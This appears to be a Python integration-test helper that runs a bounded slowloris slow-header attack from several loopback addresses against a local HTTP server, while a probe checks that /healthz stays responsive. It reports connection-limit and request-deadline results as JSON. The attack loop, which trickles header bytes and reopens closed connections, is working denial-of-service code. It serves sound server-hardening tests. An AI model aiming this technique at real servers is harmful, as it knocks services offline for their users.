#!/usr/bin/env python3
"""slowloris.py: a bounded slow-request attack on a loopback HTTP server, with a
/healthz probe running through it (for tests/integration/it_httpd_slowloris.sh).

Attack connections come from other loopback addresses (127.0.0.2, ...: Linux
routes all of 127/8 to lo), so the per-address connection limit of the server
applies to them and not to the probe, which comes from 127.0.0.1.  Each attack
connection sends a request line and then one header byte every --interval
seconds, never ending its headers; a connection the server closes is opened
again (a sustained attack) until --seconds have passed, at most --max-opened
connections in all.  Meanwhile a probe from a new thread sends GET /healthz
every --probe-every seconds and waits at most --probe-timeout seconds for the
answer.

Prints one JSON object:
  opened           attack connections opened (connect succeeded)
  refused_at_once  closed by the server within 1 s, before any byte was answered
                   (connection limits)
  closed_later     closed by the server after --deadline-min seconds or more
                   (the request deadline)
  held_max         attack connections open at once, at most
  probes           [{"status": 200 | null, "error": "...", "during": bool}] in order;
                   during: answered while the attack was still running
Python 3 standard library only; every wait is bounded."""

import argparse
import errno
import json
import selectors
import socket
import threading
import time

HEAD = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "


def probe(port, timeout):
    """One GET /healthz from 127.0.0.1; returns {"status": int|None, "error": str}."""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
            s.settimeout(timeout)
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
            data = b""
            deadline = time.monotonic() + timeout
            while b"\r\n" not in data and time.monotonic() < deadline:
                chunk = s.recv(4096)
                if not chunk:
                    break
                data += chunk
            line = data.split(b"\r\n", 1)[0].split()
            if len(line) >= 2 and line[1].isdigit():
                return {"status": int(line[1]), "error": ""}
            return {"status": None, "error": "no status line: %r" % data[:80]}
    except OSError as e:
        return {"status": None, "error": str(e)}


class Attack:
    def __init__(self, a):
        self.a = a
        self.sel = selectors.DefaultSelector()
        self.conns = {}          # socket -> {"t0": ..., "sent": n, "next": t}
        self.opened = self.refused = self.closed_later = self.held_max = 0
        self.slots = []          # (ip, index): what to (re)open
        for k, ip in enumerate(a.ips):
            self.slots += [ip] * a.per_ip[k]

    def open(self, ip):
        if self.opened >= self.a.max_opened:
            return
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((ip, 0))
            s.connect_ex(("127.0.0.1", self.a.port))
        except OSError:
            s.close()
            return
        now = time.monotonic()
        self.conns[s] = {"ip": ip, "t0": now, "sent": 0, "next": now}
        self.sel.register(s, selectors.EVENT_READ)
        self.opened += 1

    def closed(self, s, info):
        age = time.monotonic() - info["t0"]
        if age < 1.0:
            self.refused += 1
        elif age >= self.a.deadline_min:
            self.closed_later += 1
        self.sel.unregister(s)
        s.close()
        del self.conns[s]

    def run(self):
        for ip in self.slots:
            self.open(ip)
        end = time.monotonic() + self.a.seconds
        while time.monotonic() < end:
            for key, _ in self.sel.select(timeout=0.2):
                s = key.fileobj
                info = self.conns[s]
                try:
                    data = s.recv(4096)
                except OSError:
                    data = b""
                if not data:                      # the server closed it: attack again
                    self.closed(s, info)
                    self.open(info["ip"])
            now = time.monotonic()
            for s, info in list(self.conns.items()):
                if now < info["next"]:
                    continue
                piece = HEAD if info["sent"] == 0 else b"a"
                try:
                    s.send(piece)
                    info["sent"] += 1
                except BlockingIOError:
                    pass
                except OSError as e:
                    if e.errno not in (errno.ENOTCONN, errno.EAGAIN):
                        self.closed(s, info)
                        self.open(info["ip"])
                        continue
                info["next"] = now + self.a.interval
            self.held_max = max(self.held_max, len(self.conns))
        for s in list(self.conns):
            s.close()


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--ips", default="127.0.0.2,127.0.0.3,127.0.0.4,127.0.0.5,127.0.0.6")
    p.add_argument("--per-ip", default="100,50,50,50,50", help="connections per address, in order")
    p.add_argument("--seconds", type=float, default=25)
    p.add_argument("--interval", type=float, default=1.0)
    p.add_argument("--max-opened", type=int, default=3000)
    p.add_argument("--deadline-min", type=float, default=5.0)
    p.add_argument("--probe-every", type=float, default=2.0)
    p.add_argument("--probe-timeout", type=float, default=30.0)
    a = p.parse_args()
    a.ips = a.ips.split(",")
    a.per_ip = [int(x) for x in a.per_ip.split(",")]
    if len(a.per_ip) != len(a.ips):
        p.error("--per-ip needs one count per address of --ips")

    attack = Attack(a)
    probes = []
    t = threading.Thread(target=attack.run)
    t.start()
    time.sleep(min(2.0, a.seconds / 4))       # let the attack take hold first

    def one(slot):
        result = probe(a.port, a.probe_timeout)
        result["during"] = t.is_alive()
        probes[slot] = result

    waiting = []
    while t.is_alive():                       # one probe every --probe-every s, each in its own thread
        probes.append(None)
        w = threading.Thread(target=one, args=(len(probes) - 1,))
        w.start()
        waiting.append(w)
        t.join(timeout=a.probe_every)
    for w in waiting:
        w.join(timeout=a.probe_timeout + 5)
    probes = [p or {"status": None, "error": "probe thread did not finish", "during": False} for p in probes]
    print(json.dumps({"opened": attack.opened, "refused_at_once": attack.refused,
                      "closed_later": attack.closed_later, "held_max": attack.held_max,
                      "probes": probes}))


if __name__ == "__main__":
    main()
